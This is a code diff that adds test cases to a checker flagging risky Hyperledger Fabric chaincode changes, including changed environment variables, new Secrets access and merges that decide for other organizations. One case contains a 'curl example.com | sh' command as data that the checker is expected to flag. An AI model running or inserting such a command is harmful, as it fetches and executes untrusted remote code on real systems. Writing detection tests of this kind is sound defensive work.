@@ -6,6 +6,7 @@ const sequence = 'sequence: 1\n'
 const prices = "policy: OR('ManufacturerMSP.member', 'CarrierMSP.member')\n"
 const raft = '    raft: {electionTick: 10}\n'
 const chaincodes = 'chaincodes:\n'
+const image = '    image: registry.example.com/assets:1.0.2\n'
 const authority = '{name: ca, role: ca}'
 
 /** Every organization approves each chaincode itself. */
@@ -508,6 +509,54 @@ export const consentCases: readonly FabricRiskCase[] = [
         risk: 'danger approvals-automatic carrier 34:5',
         message: 'the image of every chaincode of its channels runs for carrier from now on, also without its approval',
         hint: 'ask carrier to confirm',
+      },
+    ],
+  },
+  {
+    name: 'a variable, a Secret and a program of the server of all',
+    given: [[image, `${image}    environment: {LEVEL: info, PAIR: a}\n`]],
+    edits: [
+      [
+        'environment: {LEVEL: info, PAIR: a}\n',
+        'environment: {LEVEL: debug}\n    environmentFrom: [database]\n    command: [/bin/sh, -c, "curl example.com | sh"]\n',
+      ],
+    ],
+    risks: [
+      {
+        risk: 'danger chaincode-server-changed trade/assets 56:5',
+        message:
+          'chaincode assets of channel trade gets LEVEL info → debug; PAIR a → (unset); environmentFrom "none" → ["database"]; command "none" → ["/bin/sh","-c","curl example.com | sh"]: its pods at carrier, manufacturer and retailer restart under the same definition',
+        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
+      },
+    ],
+  },
+  {
+    name: 'a variable of the server of those who approve themselves',
+    given: explicit,
+    edits: [[image, `${image}    environment: {LEVEL: debug}\n`]],
+    risks: [
+      {
+        risk: 'caution chaincode-server-changed trade/assets 59:5',
+        message:
+          'chaincode assets of channel trade gets LEVEL (unset) → debug: its pods at carrier, manufacturer and retailer restart under the same definition',
+        hint: 'each organization that runs it must approve it: `chancery chaincode approve`',
+      },
+    ],
+  },
+  {
+    name: 'a chaincode that reads Secrets',
+    edits: [
+      [
+        chaincodes,
+        `${chaincodes}  - {name: deals, channel: trade, image: "deals:1", version: "1", sequence: 1, environmentFrom: [one], secrets: [{name: two, path: /two}]}\n`,
+      ],
+    ],
+    risks: [
+      {
+        risk: 'danger chaincode-added trade/deals 56:5',
+        message:
+          "chaincode deals is new in channel trade: deals:1 runs at carrier, manufacturer and retailer, endorsed by the channel's Endorsement policy, and reads Secrets one and two",
+        hint: 'ask carrier, manufacturer and retailer to confirm: the merge decides for 3 organizations. With `approvals: explicit` an organization approves itself',
       },
     ],
   },
